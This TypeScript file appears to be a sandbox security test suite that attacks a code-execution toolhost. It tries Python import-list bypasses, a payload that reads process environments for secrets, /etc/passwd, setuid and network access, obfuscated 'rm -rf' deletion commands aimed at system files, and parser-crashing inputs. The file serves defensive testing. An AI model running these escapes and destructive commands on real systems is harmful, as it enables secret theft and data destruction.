import { durationFromMs } from "@bufbuild/protobuf/wkt";
import type { Category, Verdict } from "../support/attack.ts";
import { bounded, harmed } from "../support/attack.ts";
import type { AttackBench } from "../support/attack.ts";

export const lists: Category = {
  title: "Lists of imports and commands (lint)",
  attacks: [
    {
      id: "import-list",
      attempt:
        "bypasses the list of imports, and tries to reach a secret, host files, the network, a shell",
      promise: "the list is bypassed; the sandbox stops the harm behind it",
      control: { where: "within", why: "most of the bypasses run and reach the module" },
      run: importList,
    },
    {
      id: "command-list",
      attempt: "bypasses the list of commands with interpreters, other names, wrappers, copies",
      promise:
        "the list is bypassed; only files of the run can be deleted, and nothing else can be reached",
      control: { where: "within", why: "some of the bypasses run and delete files of the run" },
      run: commandList,
    },
    {
      id: "parser-bombs",
      attempt:
        "submits code that breaks parsers: deep nesting, huge literals, endless sums, lone surrogates, a megabyte of brackets",
      promise:
        "the parser fails in the sandbox, within its limits; the toolhost continues to serve others",
      control: { where: "within", why: "the interpreter refuses each or fails" },
      run: parserBombs,
    },
  ],
};

/** Ways to reach the module `os`, of which the list of imports permits only `os.path`. */
const bypasses = [
  "import pathlib\no = pathlib.os",
  "import os.path\no = os",
  "import json\no = json.codecs.builtins.__dict__['__im' + 'port__']('os')",
  "o = __builtins__['__im' + 'port__']('os') if isinstance(__builtins__, dict) else getattr(__builtins__, '__im' + 'port__')('os')",
  "o = eval('__imp' + 'ort__(\"os\")')",
  "exec('import os as o')",
  "exec(compile('import os as o', 'x', 'exec'))",
  "import re\no = re.enum.sys.modules['os']",
  "import datetime\no = datetime.sys.modules['os']",
  "o = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['sys'].modules['os']",
  "o = (lambda: 0).__globals__['__builtins__'].__dict__['__im' + 'port__']('os')",
  "import collections\no = collections._sys.modules['os']",
  "import functools\no = functools.reduce(getattr, ['modules'], __import__.__globals__ if hasattr(__import__, '__globals__') else __builtins__.__import__('sys')).get('os')",
  "import typing\no = typing.sys.modules['os']",
  "import dataclasses\no = dataclasses.sys.modules['os']",
  "try:\n  1 / 0\nexcept Exception as e:\n  f = e.__traceback__.tb_frame\nwhile f.f_back: f = f.f_back\no = f.f_globals['os']",
  "import math\no = math.__loader__.__class__.__init__.__globals__['sys'].modules['os'] if hasattr(math.__loader__.__class__.__init__, '__globals__') else ().__class__.__base__.__subclasses__()[0].__name__ and __builtins__.__dict__['__im' + 'port__']('os')",
  "class M(type):\n  def __getattr__(self, n): return 1\no = type('x', (), {'m': __builtins__}).m.__dict__['__im' + 'port__']('os')",
  "o = print.__self__.__dict__['__im' + 'port__']('os')",
];

async function importList(bench: AttackBench): Promise<Verdict> {
  const host = await bench.toolhost();
  const { hostFile, canary, listeners } = bench.given;
  const [address = "127.0.0.1", port = 80] = listeners[0] ?? [];
  const harm = `
found = []
def tried(name, attempt):
    try: found.append(name) if attempt() else None
    except OSError: pass
def canary():
    for pid in o.listdir("/proc"):
        if not pid.isdigit(): continue
        try:
            if b"${canary}" in o.read(o.open(f"/proc/{pid}/environ", 0), 100_000): return True
        except OSError: pass
tried("canary", canary)
tried("host file", lambda: o.open(${JSON.stringify(hostFile)}, 0))
tried("accounts", lambda: o.open("/etc/passwd", 0))
tried("interpreter", lambda: o.open(o.__file__, 1))
tried("device", lambda: o.mknod("/workspace/disk", 0o60600, o.makedev(8, 0)) or True)
tried("root", lambda: o.setuid(0) or True)
tried("network", lambda: o.system("python3 -I -c 'import socket; socket.create_connection((\\"${address}\\", ${port}), 2)' 2> /dev/null") == 0)
tried("agent", lambda: o.kill(1, 9) or o.system("kill -0 1") != 0)
"has the module, got " + repr(found)`;
  const outcomes = await Promise.all(
    bypasses.map(async (bypass) => {
      const code = `${bypass}\n${harm}`;
      const { content } = await host.call("execute_code", { code }, { runId: "run_imports" });
      return content;
    }),
  );
  const ran = outcomes.filter((content) => content.includes("has the module"));
  if (ran.length < bypasses.length / 2) {
    throw new Error(`only ${ran.length} of ${bypasses.length} ran: ${outcomes.join("\n")}`);
  }
  const worse = ran.find((content) => !content.includes("got []"));
  return worse === undefined ? bounded : harmed(worse);
}

/** Returns commands that delete `file`. */
const deleters = (file: string): readonly (readonly string[])[] => [
  ["sh", "-c", `rm -rf ${file}`],
  ["bash", "-c", `eval "r""m -rf ${file}"`],
  ["python3", "-c", `import os; os.unlink('${file}')`],
  ["perl", "-e", `unlink('${file}')`],
  ["find", file, "-delete"],
  ["sh", "-c", `echo ${file} | xargs rm`],
  ["env", "-S", `sh -c 'unlink ${file}'`],
  ["sh", "-c", `cp /bin/rm ./harmless && ./harmless ${file}`],
  ["/lib64/ld-linux-x86-64.so.2", "/bin/rm", file],
  ["sh", "-c", `/bin/r[m] -rf ${file}`],
  ["sh", "-c", `a=r; $a"m" -rf ${file}`],
  ["truncate", "-s", "0", file],
  ["sh", "-c", `: > ${file}`],
];

async function commandList(bench: AttackBench): Promise<Verdict> {
  const host = await bench.toolhost();
  const targets = [bench.given.hostFile, "/usr/bin/env", "/etc/ld.so.cache"];
  let ran = 0;
  for (const command of deleters("own")) {
    await host.prepare("run_commands", `open("own", "w").write("content")`);
    const { isError } = await host.call(
      "run_command",
      { command: [...command] },
      { runId: "run_commands" },
    );
    ran += isError ? 0 : 1;
  }
  if (ran < 4) throw new Error(`only ${ran} of the bypasses delete anything`);
  const results = await Promise.all(
    targets.flatMap(deleters).map(async (command) => {
      const args = { command: [...command] };
      const { isError } = await host.call("run_command", args, { runId: "run_commands" });
      return isError ? undefined : command.join(" ");
    }),
  );
  // Some of the commands succeed even if the file does not exist.
  const look = `import os; print([os.path.getsize(p) > 0 for p in ("/usr/bin/env", "/etc/ld.so.cache")])`;
  const left = await host.call(
    "run_command",
    { command: ["python3", "-c", look] },
    { runId: "run_commands" },
  );
  return left.content.includes("[True, True]")
    ? bounded
    : harmed(results.filter(Boolean).join("; "));
}

const bombs: readonly string[] = [
  "(".repeat(100_000),
  `${"[".repeat(90)}${"]".repeat(90)}`.repeat(5_000),
  `x = ${"-".repeat(200_000)}1`,
  `x = ${"1+".repeat(200_000)}1`,
  `x = ${"9".repeat(400_000)}`,
  `x = 9 ** 9 ** 9 ** 9`,
  `x = "a" * 10 ** 12`,
  `x = [0] * 10 ** 11`,
  `${"if 1:\n ".repeat(1)}${Array.from({ length: 120 }, (_, n) => `${" ".repeat(n + 1)}if 1:\n`).join("")}`,
  `f"${"{f'".repeat(200)}`,
  "lambda: ".repeat(50_000),
  "x = 1\n".repeat(150_000),
  "\ud800 = 1",
  "\0\0\0",
  "# coding: rot13\nvzcbeg bf",
  "'\\N{" + "A".repeat(100_000) + "}'",
  "await ".repeat(10_000),
  "a.".repeat(100_000) + "a",
];

async function parserBombs(bench: AttackBench): Promise<Verdict> {
  const host = await bench.toolhost();
  const began = performance.now();
  const settings = { codeTimeout: durationFromMs(4_000) };
  const outcomes = await Promise.all(
    bombs.map((code) => host.call("execute_code", { code }, { runId: "run_parsers", settings })),
  );
  const { content, isError } = await host.call("execute_code", { code: "6 * 7" });
  if (isError || !content.includes("42")) return harmed(`the next call: ${content}`);
  const failed = outcomes.filter((outcome) => outcome.isError).length;
  if (failed < bombs.length / 2) throw new Error(`only ${failed} of ${bombs.length} failed`);
  const lost = outcomes.find(({ metadata }) => metadata?.endReason === "sandbox_lost");
  if (lost !== undefined) return harmed(lost.content);
  const took = performance.now() - began;
  return took < 120_000 ? bounded : harmed(`it took ${took} ms`);
}
